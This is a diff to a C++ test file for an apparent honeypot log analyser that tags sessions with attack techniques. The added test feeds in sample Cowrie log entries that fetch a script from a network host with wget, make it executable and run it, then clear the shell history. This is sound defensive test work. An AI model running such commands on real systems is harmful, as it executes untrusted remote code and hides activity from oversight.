@@ -23,10 +23,14 @@ using testing::ElementsAre;
 using testing::IsEmpty;
 using testing::IsSupersetOf;
 using testing::Not;
+using testing::SizeIs;
 
 std::shared_ptr<const rules::RuleSet> shipped_rules() {
-  auto loaded = rules::load_directory(test::source_dir() / "rules" / "ttp");
-  return rules::RuleSet::compile(std::move(loaded.rules), *attack::Catalogue::built_in()).rules;
+  static const auto kRules = [] {
+    auto loaded = rules::load_directory(test::source_dir() / "rules" / "ttp");
+    return rules::RuleSet::compile(std::move(loaded.rules), *attack::Catalogue::built_in()).rules;
+  }();
+  return kRules;
 }
 
 class ReplayActivity : public testing::Test {
@@ -88,6 +92,19 @@ TEST_F(ReplayActivity, ASessionIsTaggedByWhatItDidInOrder) {
   const auto again = replay();
   EXPECT_EQ(again.inserted, 0U);
   EXPECT_EQ(again.tags, counters.tags);
+}
+
+// Summaries and charts go by when things happened, which the replay of an old log is not.
+TEST_F(ReplayActivity, ASessionIsAsOldAsItsLastCommand) {
+  import(importers::cowrie_reader(),
+         {cowrie(6, "command.input", R"("input":"wget http://192.0.2.5/a.sh")"),
+          cowrie(8, "command.input", R"("input":"chmod 755 a.sh; ./a.sh")"),
+          cowrie(7, "command.input", R"("input":"history -c")")});
+  replay();
+  const auto times = test::SqliteFile(path_).rows(
+      "SELECT DISTINCT json_extract(evidence, '$.ts') FROM ttp_tag WHERE source_kind = 'session'");
+  ASSERT_THAT(times, SizeIs(1));
+  EXPECT_THAT(times[0], ElementsAre("2026-03-05T10:00:08+00:00"));
 }
 
 TEST_F(ReplayActivity, OfADecoyEveryContactIsAnEvent) {
